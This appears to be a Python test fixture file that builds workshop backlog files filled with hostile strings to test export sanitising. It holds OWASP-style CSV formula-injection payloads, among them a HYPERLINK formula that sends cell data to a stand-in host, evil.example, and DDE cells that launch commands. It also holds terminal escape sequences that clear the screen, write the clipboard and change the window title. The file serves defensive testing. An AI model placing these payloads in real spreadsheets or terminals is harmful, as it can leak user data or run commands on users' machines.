"""Files holding text that tries to run elsewhere, for the injection tests."""

from __future__ import annotations

from pathlib import Path

from cvo_workshop.model.grooming import ItemEdited
from tests.backlog_fixtures import Play, setup
from tests.export.decks import cohort, recipe

# What a spreadsheet would run: OWASP's examples. (Tab- and CR-led cells are in
# tests/unit/test_csvcells.py: decks and workshops strip leading whitespace.)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-1+1"
QUOTED = "'=not ours"  # already starts with an apostrophe: must come back as it is

# What a terminal would obey: clear the screen, set the title, write the clipboard.
CLEAR = "\x1b[2J"
OSC52 = "\x1b]52;c;ZXZpbA==\x07"
TITLE = "\x1b]0;pwned\x07"
RLO = "\u202e"


def backlog_file(tmp_path: Path, **text: str) -> Path:
    from cvo_workshop.model.card import CohortCard, RecipeCard

    card = RecipeCard.model_validate(recipe("hostile", title=text.get("title", "A card")))
    segment = CohortCard.model_validate(cohort("hostile-cohort"))
    workshop = setup(cohorts=[segment]).model_copy(
        update={"organization": text.get("organization", "Acme")}
    )
    play = Play(workshop)
    play.draw(card, segment.id, impact=5, confidence=5, ease=5)
    for field in ("owner", "notes", "kpi"):
        if field in text:
            play.add(ItemEdited(at=play.at(), item="d1", field=field, value=text[field]))
    path = tmp_path / "hostile.workshop.jsonl"
    play.save(path)
    return path
